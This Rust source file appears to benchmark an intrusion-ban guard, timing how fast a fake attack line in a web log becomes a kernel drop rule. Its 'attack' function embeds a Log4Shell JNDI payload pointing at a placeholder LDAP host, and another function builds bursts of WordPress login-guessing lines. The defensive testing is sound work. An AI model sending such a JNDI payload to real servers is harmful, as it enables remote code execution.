//! From a line in the log to an element in the kernel: the whole way, through both processes of the guard.

use std::net::Ipv4Addr;
use std::thread;
use std::time::Duration;

use ipnet::{IpNet, Ipv4Net};

use crate::act::packet_filter::{Element, PacketFilter, Settings};
use crate::demo::measure::MeasureError;
use crate::demo::measure::figure::{Figure, spread};
use crate::demo::measure::guarded::Guarded;
use crate::demo::traffic::Dice;
use crate::host::clock;

/// A ban that is later than this is none.
const PATIENCE: Duration = Duration::from_secs(5);
/// Between two looks at the set; the look itself takes some ten microseconds.
const GLANCE: Duration = Duration::from_micros(20);
/// Lines come at random moments, this far apart at most, and all of them take no longer than that.
const LONGEST_PAUSE: Duration = Duration::from_millis(60);
const ALL_PAUSES: Duration = Duration::from_secs(12);
/// Password guesses in one burst, and a burst for so many single lines.
const BURST: usize = 40;
const BURSTS: u32 = 10;

/// One line that is an attack by itself, `bans` times, and bursts of guessed passwords; each from a new address.
pub(super) fn latency(guarded: &mut Guarded, bans: u32) -> Result<Vec<Figure>, MeasureError> {
    let mut way =
        Way { guarded, filter: PacketFilter::open(Settings::default())?, clients: 0, dice: Dice::new(0xfeed) };
    // The first line compiles what the others use.
    way.time(attack)?;
    let pause = LONGEST_PAUSE.min(ALL_PAUSES / bans);
    let lines = way.times(bans, pause, attack)?;
    let bursts = way.times(bans.div_ceil(BURSTS), pause, guesses)?;
    let mut figures = spread("line-to-kernel", "line written → address in the kernel", lines, Some(5.0));
    figures.extend(spread("burst-to-kernel", "40 guessed passwords written → address in the kernel", bursts, None));
    Ok(figures)
}

struct Way<'a> {
    guarded: &'a mut Guarded,
    filter: PacketFilter,
    clients: u32,
    dice: Dice,
}

impl Way<'_> {
    fn times(&mut self, times: u32, pause: Duration, lines: Lines) -> Result<Vec<Duration>, MeasureError> {
        let mut spans = Vec::new();
        for _ in 0..times {
            let micros = u64::try_from(pause.as_micros()).unwrap_or(u64::MAX);
            thread::sleep(Duration::from_micros(self.dice.roll(micros)));
            spans.push(self.time(lines)?);
        }
        Ok(spans)
    }

    fn time(&mut self, lines: Lines) -> Result<Duration, MeasureError> {
        self.clients += 1;
        let client = client(self.clients);
        let text = lines(client, &stamp());
        let element = Element::drop(IpNet::V4(Ipv4Net::from(client)), None);
        let written = clock::monotonic();
        self.guarded.log(text.as_bytes())?;
        while self.filter.get(&element)?.is_none() {
            if clock::monotonic().saturating_duration_since(written) > PATIENCE {
                return Err(MeasureError::Late { client, seconds: PATIENCE.as_secs() });
            }
            thread::sleep(GLANCE);
        }
        Ok(clock::monotonic().saturating_duration_since(written))
    }
}

type Lines = fn(Ipv4Addr, &str) -> String;

/// Each in a /24 of its own, of the addresses that carriers share (RFC 6598): nothing is widened to a prefix.
fn client(number: u32) -> Ipv4Addr {
    Ipv4Addr::from(0x6440_0007_u32.wrapping_add((number % 0x4000) << 8))
}

fn stamp() -> String {
    let now = jiff::Timestamp::from_millisecond(clock::now().0).unwrap_or_default();
    now.strftime("%d/%b/%Y:%H:%M:%S +0000").to_string()
}

fn attack(client: Ipv4Addr, stamp: &str) -> String {
    format!("{client} - - [{stamp}] \"GET /?x=${{jndi:ldap://203.0.113.1/a}} HTTP/1.1\" 404 162 \"-\" \"curl/8.5\"\n")
}

fn guesses(client: Ipv4Addr, stamp: &str) -> String {
    format!("{client} - - [{stamp}] \"POST /wp-login.php HTTP/1.1\" 200 5432 \"-\" \"Mozilla/5.0\"\n").repeat(BURST)
}
